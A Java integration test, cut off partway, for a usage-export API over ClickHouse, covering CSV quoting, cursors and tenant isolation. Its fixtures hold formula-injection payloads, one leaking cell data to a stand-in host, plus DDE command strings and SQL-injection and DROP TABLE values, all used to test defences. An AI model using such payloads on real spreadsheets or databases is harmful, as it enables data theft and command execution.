package io.tallyhouse.query;

import static io.tallyhouse.query.QueryTestEnv.A1;
import static io.tallyhouse.query.QueryTestEnv.A2;
import static io.tallyhouse.query.QueryTestEnv.BETA_KEY;
import static io.tallyhouse.query.QueryTestEnv.CLAUDE;
import static io.tallyhouse.query.QueryTestEnv.OPENAI;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.tallyhouse.common.auth.CredentialKind;
import io.tallyhouse.common.auth.CredentialStore;
import io.tallyhouse.common.clickhouse.ClickHouse;
import io.tallyhouse.query.QueryTestEnv.Endpoint;
import io.tallyhouse.query.export.ExportCursor;
import io.tallyhouse.query.export.ExportRequest;
import io.tallyhouse.query.export.ExportRow;
import io.tallyhouse.query.http.ActivityRouter;
import io.tallyhouse.query.http.QueryString;
import io.tallyhouse.testkit.ClickHouseEndpoint;
import io.tallyhouse.testkit.Infra;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * GET /api/v1/activity/export against a real ClickHouse (its own database): parameters, keyset
 * pages against the CSV stream, a walk while rows arrive, tenant isolation for every grouping,
 * filter and format, CSV quoting.
 */
class ExportApiIntegrationTest {

  static final ObjectMapper EXACT = QueryTestEnv.EXACT;

  private static final HttpClient HTTP =
      HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  private static final String ACME = "acme";
  private static final String BETA = "beta";
  private static final String BETA_USER = "only-beta-has-this-user";
  private static final String BETA_MONEY = "777.777";
  private static final String COMMA_USER = "bob,comma";
  private static final String QUOTE_USER = "q\"uote";
  private static final String NEWLINE_USER = "new\nline";

  /** Its own account: user ids and endpoint names a spreadsheet would run as formulas. */
  private static final String GAMMA = "gamma";

  private static final String GAMMA_KEY = "d4".repeat(32);
  private static final List<String> FORMULA_USERS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0");
  private static final Endpoint FORMULA_EP =
      new Endpoint("=cmd|' /C calc'!A0", "-permaslug", "@Provider", "+endpoint");

  private static final Endpoint BETA_EP =
      new Endpoint(
          "beta/secret-model", "beta/secret-model", "BetaOnly", "BetaOnly/beta/secret-model");

  /** Today is 2026-11-22: the last completed day is 2026-11-21. */
  private static final Instant NOW = Instant.parse("2026-11-22T00:00:05Z");

  private static final String D1 = "2026-11-21";
  private static final String D2 = "2026-11-20";
  private static final String D3 = "2026-11-19";
  private static final String RANGE = "from=2026-11-01&to=" + D1;

  private static String database;
  private static ClickHouse clickHouse;
  private static ActivityServer server;
  private static String acmeKey;
  private static String betaKey;
  private static String gammaKey;
  private static String ingestToken;

  @BeforeAll
  static void start() throws Exception {
    ClickHouseEndpoint endpoint = Infra.clickhouse();
    database = QueryTestEnv.newDatabase("aqx");
    CredentialStore keys = QueryTestEnv.newKeyStore("activity-export-test");
    acmeKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, ACME);
    betaKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, BETA);
    gammaKey = QueryTestEnv.newKey(keys, CredentialKind.MANAGEMENT, GAMMA);
    ingestToken = QueryTestEnv.newKey(keys, CredentialKind.INGEST, null);
    Map<String, String> env = QueryTestEnv.of(endpoint, database, keys.file());
    // Several CSV pages even for this small fixture, so the keyset continuation of the stream is
    // exercised.
    server = ActivityServer.start(QueryTestEnv.config(env), Clock.fixed(NOW, ZoneOffset.UTC), 4);
    clickHouse = QueryTestEnv.clickHouse(endpoint, database);
    insertFixture();
  }

  @AfterAll
  static void stop() {
    QueryTestEnv.close(server);
    QueryTestEnv.dropDatabase(clickHouse, database);
  }

  // ---- fixture
  // ------------------------------------------------------------------------------------------

  /**
   * A usage_daily row as JSONEachRow; the other totals follow from {@code requests} and {@code
   * usage}.
   */
  static String row(
      String account,
      String date,
      String key,
      String user,
      Endpoint ep,
      long requests,
      String usage,
      long version) {
    return QueryTestEnv.rollupRow(
        account,
        date,
        key,
        user,
        ep,
        requests,
        usage,
        new BigDecimal(usage).movePointLeft(3).setScale(12, RoundingMode.DOWN).toPlainString(),
        requests / 2,
        version);
  }

  private static void insert(String table, String... lines) {
    QueryTestEnv.insert(clickHouse, table, List.of(lines));
  }

  private static String keyRow(String account, String key) {
    return QueryTestEnv.accountRow(account, "api_key_hash", key);
  }

  private static void insertFixture() {
    insert("api_key_hashes", keyRow(ACME, A1), keyRow(ACME, A2), keyRow(BETA, BETA_KEY));
    insert(
        "usage_daily",
        row(ACME, D1, A1, "alice", OPENAI, 2, "1.100000000000", 1),
        row(ACME, D1, A2, "alice", OPENAI, 3, "2.2", 1),
        row(ACME, D1, A1, "", CLAUDE, 5, "0.000000000001", 1),
        row(ACME, D1, A1, COMMA_USER, OPENAI, 1, "10", 1),
        row(ACME, D2, A1, QUOTE_USER, CLAUDE, 7, "123456789.123456789012", 1),
        row(ACME, D2, A2, NEWLINE_USER, OPENAI, 4, "0.5", 1),
        row(ACME, D2, A1, "alice", CLAUDE, 6, "3", 1),
        row(ACME, D3, A2, "carol", OPENAI, 8, "4.25", 1),
        row(ACME, D3, A1, "", OPENAI, 9, "0.1", 1),
        row(ACME, "2026-10-31", A1, "before-range", OPENAI, 1, "1", 1),
        row(BETA, D1, BETA_KEY, BETA_USER, BETA_EP, 99, BETA_MONEY, 1),
        row(BETA, D2, BETA_KEY, "alice", BETA_EP, 98, BETA_MONEY, 1));
    insert("api_key_hashes", keyRow(GAMMA, GAMMA_KEY));
    for (int i = 0; i < FORMULA_USERS.size(); i++) {
      insert(
          "usage_daily",
          row(GAMMA, D1, GAMMA_KEY, FORMULA_USERS.get(i), FORMULA_EP, i + 1, "1.5", 1));
    }
    // A higher version of one row in its own part: FINAL must keep only this one.
    insert("usage_daily", row(ACME, D3, A2, "carol", OPENAI, 10, "5.75", 2));
  }

  // ---- HTTP helpers
  // -------------------------------------------------------------------------------------

  private static HttpResponse<String> get(String authorization, String path, String query)
      throws Exception {
    return QueryTestEnv.get(server, authorization, path, query);
  }

  private static HttpResponse<String> export(String key, String query) throws Exception {
    return get("Bearer " + key, ActivityRouter.EXPORT_ROUTE, query);
  }

  private static JsonNode json(HttpResponse<String> response) throws Exception {
    assertEquals(200, response.statusCode(), response.body());
    assertTrue(
        response.headers().firstValue("Content-Type").orElse("").startsWith("application/json"));
    return EXACT.readTree(response.body());
  }

  private static String enc(String value) {
    return QueryTestEnv.enc(value);
  }

  /** Every JSON row of {@code query}, following next_cursor with pages of {@code limit}. */
  private static List<JsonNode> walk(String key, String query, int limit) throws Exception {
    List<JsonNode> rows = new ArrayList<>();
    String cursor = null;
    for (int pages = 0; pages < 1000; pages++) {
      JsonNode page =
          json(
              export(
                  key,
                  query + "&limit=" + limit + (cursor == null ? "" : "&cursor=" + enc(cursor))));
      assertTrue(page.get("data").size() <= limit);
      page.get("data").forEach(rows::add);
      if (page.get("next_cursor").isNull()) {
        return rows;
      }
      assertEquals(limit, page.get("data").size(), "only the last page is short");
      cursor = page.get("next_cursor").asText();
    }
    throw new AssertionError("walk did not end");
  }

  /** A JSON row as CSV cells: null user is an empty cell, numbers as their exact plain text. */
  private static List<String> cells(JsonNode row) {
    List<String> cells = new ArrayList<>();
    row.fields()
        .forEachRemaining(
            field -> {
              JsonNode value = field.getValue();
              if (value.isNull()) {
                cells.add("");
              } else if (value.isNumber()) {
                cells.add(
                    value.isIntegralNumber()
                        ? value.bigIntegerValue().toString()
                        : value.decimalValue().toPlainString());
              } else {
                cells.add(value.asText());
              }
            });
    return cells;
  }

  /** The header and records of an RFC 4180 text. */
  static List<List<String>> parseCsv(String text) {
    List<List<String>> records = new ArrayList<>();
    List<String> record = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    int i = 0;
    boolean quoted = false;
    while (i < text.length()) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          field.append('"');
          i += 2;
          continue;
        }
        if (c == '"') {
          quoted = false;
        } else {
          field.append(c);
        }
        i++;
        continue;
      }
      if (c == '"') {
        assertEquals(0, field.length(), "a quote only opens a field");
        quoted = true;
      } else if (c == ',') {
        record.add(field.toString());
        field.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        record.add(field.toString());
        field.setLength(0);
        records.add(record);
        record = new ArrayList<>();
        i++;
      } else {
        assertNotEquals('\n', c, "bare LF outside quotes");
        field.append(c);
      }
      i++;
    }
    assertFalse(quoted, "unterminated quote");
    assertTrue(record.isEmpty() && field.length() == 0, "the last record ends with CRLF");
    return records;
  }

  private static List<List<String>> csv(String key, String query) throws Exception {
    HttpResponse<String> response = export(key, query + "&format=csv");
    assertEquals(200, response.statusCode(), response.body());
    assertEquals(
        "text/csv; charset=utf-8", response.headers().firstValue("Content-Type").orElse(""));
    return parseCsv(response.body());
  }

  private static JsonNode error(HttpResponse<String> response, int status) throws Exception {
    return QueryTestEnv.error(response, status);
  }

  // ---- ClickHouse 18.16 facts the keyset relies on
  // -------------------------------------------------------

  @Test
  void clickHouseComparesTuplesLexicographically() {
    JsonNode answer =
        clickHouse
            .query(
                "SELECT (toDate('2026-01-02'), 'a') > (toDate('2026-01-01'), 'z') AS a,"
                    + " ('a', 'b') > ('a', 'a') AS b, ('a', 'b') > ('b', 'a') AS c, ('', 'x') < ('a', '') AS d,"
                    + " ('a', 'b') > ('a', 'b') AS e, ('ab') > ('a') AS f")
            .get(0);
    assertEquals("1", answer.get("a").asText());
    assertEquals("1", answer.get("b").asText());
    assertEquals("0", answer.get("c").asText());
    assertEquals("1", answer.get("d").asText());
    assertEquals("0", answer.get("e").asText());
    assertEquals("1", answer.get("f").asText());
  }

  // ---- answers
  // ------------------------------------------------------------------------------------------

  @Test
  void defaultGroupsByUserWithExactTotals() throws Exception {
    JsonNode page = json(export(acmeKey, RANGE));
    assertTrue(page.get("next_cursor").isNull());
    List<String> users = new ArrayList<>();
    page.get("data")
        .forEach(r -> users.add(r.get("user_id").isNull() ? null : r.get("user_id").asText()));
    // '' (no user) first, then bytewise.
    assertEquals(
        java.util.Arrays.asList(null, "alice", COMMA_USER, "carol", NEWLINE_USER, QUOTE_USER),
        users);
    JsonNode alice = page.get("data").get(1);
    assertEquals(
        List.of(
            "user_id",
            "requests",
            "prompt_tokens",
            "completion_tokens",
            "reasoning_tokens",
            "cached_tokens",
            "byok_requests",
            "usage",
            "byok_usage_inference"),
        names(alice));
    assertEquals("11", alice.get("requests").asText());
    assertEquals("1100", alice.get("prompt_tokens").asText());
    assertEquals(new BigDecimal("6.3"), alice.get("usage").decimalValue());
    assertEquals("6.3", alice.get("usage").decimalValue().toString());
    assertEquals("0.0063", alice.get("byok_usage_inference").decimalValue().toPlainString());
    JsonNode carol = page.get("data").get(3);
    assertEquals("10", carol.get("requests").asText(), "FINAL keeps the highest version");
    JsonNode noUser = page.get("data").get(0);
    assertEquals("0.100000000001", noUser.get("usage").decimalValue().toPlainString());
    assertEquals("0.0001", noUser.get("byok_usage_inference").decimalValue().toPlainString());
    assertFalse(page.toString().contains("before-range"));
    assertFalse(response(RANGE).contains("E-"), "no exponent");
  }

  private static String response(String query) throws Exception {
    return export(acmeKey, query).body();
  }

  private static List<String> names(JsonNode row) {
    List<String> names = new ArrayList<>();
    row.fieldNames().forEachRemaining(names::add);
    return names;
  }

  @Test
  void everyGroupingOrdersByItsColumnsAndJsonPagesEqualTheCsv() throws Exception {
    for (String groupBy : groupings()) {
      String query = RANGE + "&group_by=" + enc(groupBy);
      List<JsonNode> walked = walk(acmeKey, query, 3);
      List<List<String>> csv = csv(acmeKey, query);
      List<String> header = csv.get(0);
      assertEquals(names(walked.get(0)), header, groupBy);
      List<List<String>> fromJson = new ArrayList<>();
      walked.forEach(r -> fromJson.add(cells(r)));
      assertEquals(fromJson, csv.subList(1, csv.size()), groupBy);
      // One big page is the same as the walk.
      List<List<String>> onePage = new ArrayList<>();
      json(export(acmeKey, query + "&limit=1000")).get("data").forEach(r -> onePage.add(cells(r)));
      assertEquals(fromJson, onePage, groupBy);
      assertEquals(new HashSet<>(fromJson).size(), fromJson.size(), "no row twice: " + groupBy);
    }
  }

  /** Every non-empty combination of the four groupings. */
  private static List<String> groupings() {
    String[] all = {"date", "user", "api_key", "endpoint"};
    List<String> out = new ArrayList<>();
    for (int mask = 1; mask < 16; mask++) {
      List<String> parts = new ArrayList<>();
      for (int i = 0; i < 4; i++) {
        if ((mask & 1 << i) != 0) {
          parts.add(all[i]);
        }
      }
      out.add(String.join(",", parts));
    }
    return out;
  }

  @Test
  void groupingOrderInTheParameterDoesNotChangeTheColumns() throws Exception {
    assertEquals(
        response(RANGE + "&group_by=date,user,endpoint"),
        response(RANGE + "&group_by=endpoint,user,date"));
  }

  @Test
  void csvQuotesCommasQuotesAndNewlines() throws Exception {
    HttpResponse<String> response = export(acmeKey, RANGE + "&format=csv&group_by=user");
    String body = response.body();
    assertTrue(
        body.startsWith(
            "user_id,requests,prompt_tokens,completion_tokens,reasoning_tokens,cached_tokens,"
                + "byok_requests,usage,byok_usage_inference\r\n"),
        body);
    assertTrue(body.contains("\r\n\"bob,comma\",1,100,10,1,3,0,10,0.01\r\n"), body);
    assertTrue(body.contains("\r\n\"q\"\"uote\",7,"), body);
    assertTrue(body.contains("\r\n\"new\nline\",4,"), body);
    assertTrue(body.contains("\r\n,14,1400,"), "no user is an empty cell: " + body);
    assertTrue(body.contains(",123456789.123456789012,123456.789123456789\r\n"), body);
    List<List<String>> records = parseCsv(body);
    Set<String> users = new LinkedHashSet<>();
    records.subList(1, records.size()).forEach(r -> users.add(r.get(0)));
    assertTrue(
        users.containsAll(List.of(COMMA_USER, QUOTE_USER, NEWLINE_USER, "")), users.toString());
    assertEquals("no-store", response.headers().firstValue("Cache-Control").orElse(""));
  }

  @Test
  void csvNeutralisesFormulaCellsWhileJsonAndActivityKeepTheExactStrings() throws Exception {
    String query = "from=" + D1 + "&to=" + D1 + "&group_by=user,endpoint";
    String body = export(gammaKey, query + "&format=csv").body();
    for (String user : FORMULA_USERS) {
      assertTrue(
          body.contains("\r\n\"'" + user.replace("\"", "\"\"") + "\","), user + " in " + body);
    }
    assertTrue(
        body.contains(
            ",\"'+endpoint\",\"'=cmd|' /C calc'!A0\",\"'-permaslug\",\"'@Provider\",1,100,"),
        body);
    List<List<String>> records = parseCsv(body);
    assertEquals(FORMULA_USERS.size() + 1, records.size());
    for (List<String> record : records.subList(1, records.size())) {
      for (String cell : record.subList(0, 5)) {
        assertEquals('\'', cell.charAt(0), cell);
      }
      for (String number : record.subList(5, record.size())) {
        new BigDecimal(number); // the totals stay plain numbers
      }
    }

    List<String> exported = new ArrayList<>();
    walk(gammaKey, query, 1000)
        .forEach(
            r -> {
              exported.add(r.get("user_id").asText());
              assertEquals(
                  List.of(
                      FORMULA_EP.id(),
                      FORMULA_EP.model(),
                      FORMULA_EP.permaslug(),
                      FORMULA_EP.provider()),
                  List.of(
                      r.get("endpoint_id").asText(),
                      r.get("model").asText(),
                      r.get("model_permaslug").asText(),
                      r.get("provider_name").asText()));
            });
    assertEquals(new TreeSet<>(FORMULA_USERS), new TreeSet<>(exported));
    JsonNode activity =
        json(get("Bearer " + gammaKey, ActivityRouter.ROUTE, "date=" + D1 + "&group_by=user"));
    Set<String> users = new TreeSet<>();
    activity
        .get("data")
        .forEach(
            item -> {
              users.add(item.get("user_id").asText());
              assertEquals(FORMULA_EP.model(), item.get("model").asText());
            });
    assertEquals(new TreeSet<>(FORMULA_USERS), users);
  }

  @Test
  void filtersNarrowTheRows() throws Exception {
    List<JsonNode> alice = walk(acmeKey, RANGE + "&group_by=date,api_key&user_id=alice", 2);
    assertEquals(3, alice.size());
    List<JsonNode> a2 = walk(acmeKey, RANGE + "&group_by=user&api_key_hash=" + A2.toUpperCase(), 1);
    assertEquals(3, a2.size());
    assertEquals("alice", a2.get(0).get("user_id").asText());
    assertEquals(
        List.of(
            List.of(
                "user_id",
                "requests",
                "prompt_tokens",
                "completion_tokens",
                "reasoning_tokens",
                "cached_tokens",
                "byok_requests",
                "usage",
                "byok_usage_inference")),
        csv(acmeKey, RANGE + "&user_id=nobody").subList(0, 1));
    assertEquals(1, csv(acmeKey, RANGE + "&user_id=nobody").size(), "header only");
    assertEquals(0, json(export(acmeKey, RANGE + "&user_id=nobody")).get("data").size());
  }

  @Test
  void fromAndToAreInclusive() throws Exception {
    List<JsonNode> oneDay = walk(acmeKey, "from=" + D2 + "&to=" + D2 + "&group_by=date", 5);
    assertEquals(1, oneDay.size());
    assertEquals(D2, oneDay.get(0).get("date").asText());
    assertEquals("17", oneDay.get(0).get("requests").asText());
    assertEquals(4, walk(acmeKey, "from=2026-10-31&to=" + D1 + "&group_by=date", 5).size());
    // The longest range: 400 days ending yesterday.
    assertEquals(200, export(acmeKey, "from=2025-10-18&to=" + D1).statusCode());
    error(export(acmeKey, "from=2025-10-17&to=" + D1), 400);
  }

  // ---- walking while data arrives
  // ---------------------------------------------------------------------------

  @Test
  void aWalkNeverRepeatsOrSkipsWhileRowsArrive() throws Exception {
    // Its own days, so the other tests' answers do not change.
    String day1 = "2026-09-01";
    String day2 = "2026-09-02";
    String query = "from=" + day1 + "&to=" + day2 + "&group_by=date,user";
    List<String> initial = new ArrayList<>();
    for (int i = 0; i < 10; i++) {
      String user = "walker-" + i;
      insert(
          "usage_daily", row(ACME, i % 2 == 0 ? day1 : day2, A1, user, OPENAI, i + 1, "1." + i, 1));
    }
    for (List<String> record : csv(acmeKey, query).subList(1, 11)) {
      initial.add(record.get(0) + "|" + record.get(1));
    }
    assertEquals(10, initial.size());

    List<String> seen = new ArrayList<>();
    Map<String, String> requests = new HashMap<>();
    String cursor = null;
    int page = 0;
    while (true) {
      JsonNode answer =
          json(
              export(
                  acmeKey, query + "&limit=3" + (cursor == null ? "" : "&cursor=" + enc(cursor))));
      for (JsonNode r : answer.get("data")) {
        String key = r.get("date").asText() + "|" + r.get("user_id").asText();
        seen.add(key);
        requests.put(key, r.get("requests").asText());
      }
      page++;
      // Between pages: new groups before and after the position, and higher versions of seen and
      // unseen rows.
      insert(
          "usage_daily",
          row(ACME, day1, A1, "aaa-new-" + page, OPENAI, 1, "0.1", 1),
          row(ACME, day2, A1, "zzz-new-" + page, OPENAI, 1, "0.1", 1));
      insert(
          "usage_daily",
          row(ACME, day1, A1, "walker-0", OPENAI, 100 + page, "9", 1 + page),
          row(ACME, day2, A1, "walker-9", OPENAI, 100 + page, "9", 1 + page));
      if (answer.get("next_cursor").isNull()) {
        break;
      }
      cursor = answer.get("next_cursor").asText();
      assertTrue(page < 100);
    }
    assertEquals(new LinkedHashSet<>(seen).size(), seen.size(), "no group twice: " + seen);
    assertTrue(seen.containsAll(initial), "every group of the start is there: " + seen);
    // The order of the walk is the order of a CSV read now, so the walk is one consistent pass.
    List<String> now = new ArrayList<>();
    for (List<String> record : csv(acmeKey, query).subList(1, csv(acmeKey, query).size())) {
      now.add(record.get(0) + "|" + record.get(1));
    }
    List<String> seenInNowOrder = new ArrayList<>(now);
    seenInNowOrder.retainAll(seen);
    assertEquals(seenInNowOrder, seen);
    // walker-9 sits on the last page, read after the first update: the newer numbers show.
    assertNotEquals("10", requests.get(day2 + "|walker-9"));
  }

  // ---- tenant isolation
  // ---------------------------------------------------------------------------------------

  @Test
  void anAccountNeverSeesAnotherAccountsRows() throws Exception {
    List<String> filters =
        List.of("", "&user_id=alice", "&user_id=" + BETA_USER, "&api_key_hash=" + A1);
    for (String groupBy : groupings()) {
      for (String filter : filters) {
        String query = RANGE + "&group_by=" + groupBy + filter;
        String jsonBody = export(acmeKey, query + "&limit=1000").body();
        String csvBody = export(acmeKey, query + "&format=csv").body();
        for (String body : List.of(jsonBody, csvBody)) {
          for (String secret :
              List.of(BETA_USER, BETA_KEY, BETA_MONEY, "BetaOnly", "secret-model", "98", "99")) {
            assertFalse(body.contains(secret), query + " shows " + secret + ": " + body);
          }
        }
        assertEquals(200, export(acmeKey, query).statusCode());
        if (filter.contains(BETA_USER)) {
          assertEquals(0, json(export(acmeKey, query)).get("data").size());
        }
      }
      // And the other way round: beta sees its rows and none of acme's.
      String betaBody = export(betaKey, RANGE + "&group_by=" + groupBy + "&limit=1000").body();
      assertTrue(
          betaBody.contains("\"requests\":197") || betaBody.contains("\"requests\":99"), betaBody);
      for (String acmeOnly : List.of(A1, A2, "carol", "openai", "\"requests\":11")) {
        assertFalse(betaBody.contains(acmeOnly), groupBy + ": " + betaBody);
      }
    }
    for (String format : List.of("json", "csv")) {
      error(export(acmeKey, RANGE + "&format=" + format + "&api_key_hash=" + BETA_KEY), 404);
      error(export(betaKey, RANGE + "&format=" + format + "&api_key_hash=" + A1), 404);
    }
  }

  @Test
  void aCursorOfAnotherAccountShowsNothingOfIt() throws Exception {
    String query = RANGE + "&group_by=user";
    String betaCursor = json(export(betaKey, query + "&limit=1")).get("next_cursor").asText();
    // Same parameters, so the check passes: it only moves acme's walk past "alice"; acme's rows
    // only.
    JsonNode page = json(export(acmeKey, query + "&limit=1000&cursor=" + enc(betaCursor)));
    assertFalse(page.toString().contains(BETA_USER));
    assertTrue(page.get("data").size() > 0);
  }

  @Test
  void aHandBuiltCursorOnlyMovesWithinTheCallersOwnRows() throws Exception {
    // The check is a plain digest, so a client can compute it: such a cursor is accepted, and still
    // shows nothing
    // but the caller's rows after the position it names, whatever that position holds.
    String query = RANGE + "&group_by=user";
    ExportRequest request =
        ExportRequest.parse(QueryString.parse(query), NOW.atZone(ZoneOffset.UTC).toLocalDate());
    for (String position :
        List.of("", BETA_USER, "' OR account_id = 'beta' --", "\\' OR 1=1 --", "zzzz")) {
      String forged = ExportCursor.encode(List.of(position), request);
      JsonNode page = json(export(acmeKey, query + "&limit=1000&cursor=" + enc(forged)));
      for (JsonNode row : page.get("data")) {
        String user = row.get("user_id").isNull() ? "" : row.get("user_id").asText();
        assertTrue(user.compareTo(position) > 0, position + " then " + user);
      }
      for (String secret : List.of(BETA_USER, BETA_MONEY, "\"requests\":99", "\"requests\":98")) {
        assertFalse(page.toString().contains(secret), position + ": " + page);
      }
    }
  }

  // ---- auth
  // -----------------------------------------------------------------------------------------------

  @Test
  void authIsTheActivityAuth() throws Exception {
    HttpResponse<String> none = get(null, ActivityRouter.EXPORT_ROUTE, RANGE);
    error(none, 401);
    assertEquals("Bearer", none.headers().firstValue("WWW-Authenticate").orElse(""));
    error(export("sk-th-mgmt-unknown", RANGE), 401);
    error(export(ingestToken, RANGE), 403);
    // Key before parameters.
    error(get(null, ActivityRouter.EXPORT_ROUTE, "from=bad"), 401);
    error(export(ingestToken, "from=bad"), 403);
  }

  // ---- parameters
  // ---------------------------------------------------------------------------------------

  static Stream<Arguments> invalidParameters() {
    String big = "x".repeat(10_000);
    List<Arguments> cases = new ArrayList<>();
    for (String name : List.of("from", "to")) {
      String other = name.equals("from") ? "to=" + D1 : "from=" + D3;
      for (String value :
          List.of(
              "",
              "2026-11-22",
              "2026-11-31",
              "2026-13-01",
              "20261121",
              "2026-11-21'",
              "2026-11-21\\",
              "'; DROP TABLE usage_daily --",
              big,
              "２０２６-１１-２１",
              "1969-12-31",
              "0000-01-01",
              "9999-12-31",
              "-2026-11-21",
              "+2026-11-21")) {
        cases.add(Arguments.of(name, other + "&" + name + "=" + enc(value)));
      }
      cases.add(Arguments.of(name, other));
      cases.add(Arguments.of(name, RANGE + "&" + name + "=" + D2));
    }
    cases.add(Arguments.of("from", "from=" + D1 + "&to=" + D2));
    for (String value :
        List.of(
            "",
            "user,",
            ",user",
            "user,user",
            "USER",
            "users",
            "user api_key",
            "user'",
            "user\\",
            big,
            "ユーザー",
            "date,user,api_key,endpoint,date",
            "month")) {
      cases.add(Arguments.of("group_by", RANGE + "&group_by=" + enc(value)));
    }
    cases.add(Arguments.of("group_by", RANGE + "&group_by=user&group_by=date"));
    for (String value : List.of("", "'", "\\", A1 + "'", big, "١".repeat(64), "g".repeat(64))) {
      cases.add(Arguments.of("api_key_hash", RANGE + "&api_key_hash=" + enc(value)));
    }
    cases.add(Arguments.of("api_key_hash", RANGE + "&api_key_hash=" + A1 + "&api_key_hash=" + A1));
    for (String value : List.of("", "a\u0000b", "a\nb", big, "ü".repeat(257))) {
      cases.add(Arguments.of("user_id", RANGE + "&user_id=" + enc(value)));
    }
    cases.add(Arguments.of("user_id", RANGE + "&user_id=alice&user_id=alice"));
    for (String value : List.of("", "JSON", "xml", "csv'", "json\\", big, "ｃｓｖ")) {
      cases.add(Arguments.of("format", RANGE + "&format=" + enc(value)));
    }
    cases.add(Arguments.of("format", RANGE + "&format=json&format=json"));
    for (String value :
        List.of(
            "",
            "0",
            "1001",
            "-1",
            "1.5",
            "1e3",
            "99999999999999999999",
            "'",
            "\\",
            big,
            "١٠",
            " 5")) {
      cases.add(Arguments.of("limit", RANGE + "&limit=" + enc(value)));
    }
    cases.add(Arguments.of("limit", RANGE + "&limit=5&limit=5"));
    cases.add(Arguments.of("limit", RANGE + "&format=csv&limit=5"));
    for (String value :
        List.of("", "'", "\\", "!!!", big, "ü", "e30", "W10", "bnVsbA", "eyJ2IjoxfQ")) {
      cases.add(Arguments.of("cursor", RANGE + "&cursor=" + enc(value)));
    }
    cases.add(Arguments.of("cursor", RANGE + "&format=csv&cursor=abc"));
    return cases.stream();
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("invalidParameters")
  void invalidParameterIs400NamingIt(String name, String query) throws Exception {
    for (String format : List.of("", "&format=csv")) {
      String full = query.contains("format=") ? query : query + format;
      HttpResponse<String> response = export(acmeKey, full);
      String message = error(response, 400).get("message").asText();
      assertTrue(message.contains(name), name + " not in " + message);
      assertTrue(message.length() < 200, "the value is not echoed");
    }
  }

  static Stream<Arguments> hostileUsers() {
    return Stream.of(
            "' OR 1=1 --",
            "alice'",
            "alice\\",
            "\\'",
            "ü'ser \\ 1",
            "x".repeat(256),
            "😀".repeat(256),
            "%27",
            "alice%",
            "a_ice")
        .map(Arguments::of);
  }

  @ParameterizedTest
  @MethodSource("hostileUsers")
  void hostileButValidUserIdMatchesNothing(String user) throws Exception {
    assertEquals(0, json(export(acmeKey, RANGE + "&user_id=" + enc(user))).get("data").size());
    assertEquals(1, csv(acmeKey, RANGE + "&user_id=" + enc(user)).size());
  }

  @Test
  void malformedPercentEscapeAndHugeLinesAreNot500() throws Exception {
    try (java.net.Socket socket = new java.net.Socket("127.0.0.1", server.port())) {
      socket.setSoTimeout(10_000);
      socket
          .getOutputStream()
          .write(
              ("GET "
                      + ActivityRouter.EXPORT_ROUTE
                      + "?"
                      + RANGE
                      + "&user_id=%zz HTTP/1.1\r\n"
                      + "Host: 127.0.0.1\r\nAuthorization: Bearer "
                      + acmeKey
                      + "\r\nConnection: close\r\n\r\n")
                  .getBytes(StandardCharsets.ISO_8859_1));
      String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      assertTrue(answer.startsWith("HTTP/1.1 400"), answer);
    }
    HttpResponse<String> huge = export(acmeKey, RANGE + "&cursor=" + "x".repeat(100_000));
    assertTrue(
        huge.statusCode() >= 400 && huge.statusCode() < 500, String.valueOf(huge.statusCode()));
  }

  @Test
  void unknownParametersAreIgnored() throws Exception {
    assertEquals(response(RANGE), response(RANGE + "&From=2020-01-01&offset=5&x=%27"));
  }

  // ---- cursors
  // ------------------------------------------------------------------------------------------

  @Test
  void tamperedOrForeignCursorsAre400() throws Exception {
    String query = RANGE + "&group_by=date,user";
    String cursor = json(export(acmeKey, query + "&limit=2")).get("next_cursor").asText();
    // Another page size is the same walk.
    assertEquals(200, export(acmeKey, query + "&limit=3&cursor=" + cursor).statusCode());
    List<String> bad = new ArrayList<>();
    for (int i = 0; i < cursor.length(); i += Math.max(1, cursor.length() / 25)) {
      char c = cursor.charAt(i);
      bad.add(cursor.substring(0, i) + (c == 'A' ? 'B' : 'A') + cursor.substring(i + 1));
    }
    bad.add(cursor.substring(0, cursor.length() - 1));
    bad.add(cursor.substring(1));
    bad.add(cursor + "A");
    bad.add(cursor + "=");
    bad.add(cursor.replace('-', '+').replace('_', '/') + "+/");
    byte[] decoded = Base64.getUrlDecoder().decode(cursor);
    JsonNode inside = EXACT.readTree(decoded);
    for (String edit :
        List.of(
            inside.toString().replace("\"v\":1", "\"v\":2"),
            inside.toString().replace("\"k\":[", "\"k\":[\"x\","),
            inside.toString().replace("\"k\":[", "\"k\":[1,"),
            inside.toString().replace(D1, "2026-11-22"),
            inside.toString().replace("\"c\":\"", "\"c\":\"x"),
            "{\"v\":1,\"k\":[\"2026-11-21\",\"alice\"],\"c\":\"AAAAAAAAAAAAAAAAAAAAAA\"}",
